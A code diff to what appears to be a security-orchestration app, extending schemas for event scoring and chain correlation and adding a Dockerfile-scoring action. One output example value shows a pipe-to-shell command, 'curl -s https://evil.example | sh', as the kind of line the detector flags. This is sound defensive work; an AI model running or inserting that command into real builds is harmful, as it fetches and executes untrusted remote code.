@@ -122,7 +122,9 @@ def _min_score() -> Any:
 
 def _max_findings() -> Any:
     return Param(
-        description="Return as many findings at most and count the others; by default the asset's",
+        description=(
+            "Return as many different findings at most and count the others; by default the asset's"
+        ),
         default=None,
     )
 
@@ -144,7 +146,7 @@ class ScoreEventsParams(SafeParams):
     """Many events."""
 
     events: str = Param(
-        description="Events: a JSON array, JSON lines, or the action_result.data of a query",
+        description="Events: what a query returned, JSON, JSON lines or CSV",
         primary=True,
         cef_types=["t1612 events"],
     )
@@ -160,7 +162,10 @@ class ScanVaultFileParams(SafeParams):
     """A file of events."""
 
     vault_id: str = Param(
-        description="Vault ID of a file of JSON lines, or of a JSON array; plain or gzip",
+        description=(
+            "Vault ID of a file of events (JSON, JSON lines, CSV; plain or gzip); "
+            "of several, with commas"
+        ),
         primary=True,
         cef_types=["vault id"],
     )
@@ -190,13 +195,15 @@ class CorrelateParams(SafeParams):
     """Events to find chains in."""
 
     events: str | None = Param(
-        description="Events: a JSON array, JSON lines, or the action_result.data of a query",
+        description="Events: what a query returned, JSON, JSON lines or CSV",
         primary=True,
         default=None,
         cef_types=["t1612 events"],
     )
     vault_id: str | None = Param(
-        description="Or the vault ID of a file of events", default=None, cef_types=["vault id"]
+        description="Or the vault ID of a file of events; of several, with commas",
+        default=None,
+        cef_types=["vault id"],
     )
     window_minutes: int = Param(
         description="How far apart the steps of a chain may be, in minutes", default=60
@@ -208,9 +215,22 @@ class CorrelateParams(SafeParams):
     _text = field_validator("events", mode="before")(as_text)
 
 
-class Finding(ActionOutput):
-    """An event and its score."""
+class ScoreDockerfileParams(SafeParams):
+    """A Dockerfile."""
 
+    content: str | None = Param(
+        description="The content of the Dockerfile", primary=True, default=None
+    )
+    vault_id: str | None = Param(
+        description="Or the vault ID of a Dockerfile", default=None, cef_types=["vault id"]
+    )
+
+
+class Finding(ActionOutput):
+    """An event and its score, and how often the same was found."""
+
+    id: str = OutputField(example_values=["5f1c0a6f2b7d4e19"])
+    count: int = OutputField(example_values=[1], column_name="Times")
     device: str = OutputField(
         cef_types=["host name"], example_values=["web-01"], column_name="Device"
     )
@@ -229,6 +249,9 @@ class Finding(ActionOutput):
         column_name="Detail",
     )
     time: str = OutputField(example_values=["2026-03-02T08:06:41+00:00"])
+    last_time: str = OutputField(example_values=["2026-03-02T09:06:41+00:00"])
+    remote_ip: str = OutputField(cef_types=["ip"], example_values=["203.0.113.7"])
+    remote_url: str = OutputField(cef_types=["url", "domain"], example_values=["evil.example"])
     rule: str = OutputField(example_values=["image_build"])
     profile: str = OutputField(example_values=["hardened"])
     source_index: int = OutputField(example_values=[0])
@@ -255,17 +278,40 @@ class Chain(ActionOutput):
     narrative: str = OutputField(example_values=["root built an image"], column_name="Narrative")
 
 
+class DockerfileLine(ActionOutput):
+    """What one instruction of a Dockerfile does."""
+
+    signal: str = OutputField(example_values=["dockerfile.pipe_to_shell"], column_name="Signal")
+    weight: int = OutputField(example_values=[2], column_name="Weight")
+    line: int = OutputField(example_values=[2], column_name="Line")
+    text: str = OutputField(
+        example_values=["curl -s https://evil.example | sh"], column_name="Text"
+    )
+
+
+class DockerfileSummary(ActionOutput):
+    """What a Dockerfile scores."""
+
+    score: int = OutputField(example_values=[3])
+    matched: bool
+    verdict: str = OutputField(example_values=["suspicious"])
+
+
 class Summary(ActionOutput):
     """The counts of a run, to branch on."""
 
     events: int = OutputField(example_values=[1000])
+    scored: int = OutputField(example_values=[1000])
+    skipped: int = OutputField(example_values=[0])
     findings: int = OutputField(example_values=[3])
     returned: int = OutputField(example_values=[3])
     suppressed: int = OutputField(example_values=[0])
-    skipped: int = OutputField(example_values=[0])
     max_score: int = OutputField(example_values=[10])
     severity: str = OutputField(example_values=["high"])
-    verdict: str = OutputField(example_values=["suspicious"])
+    verdict: str = OutputField(example_values=["unknown", "none", "suspicious", "malicious"])
     chains: int = OutputField(example_values=[1])
+    chain_verdict: str = OutputField(example_values=["build", "build-then-deploy"])
     top_device: str = OutputField(cef_types=["host name"], example_values=["web-01"])
+    complete: bool
+    warning: str = OutputField(example_values=["3 of 1,000 events not scored; the first: …"])
     report_vault_id: str = OutputField(cef_types=["vault id"], example_values=["da39a3ee"])
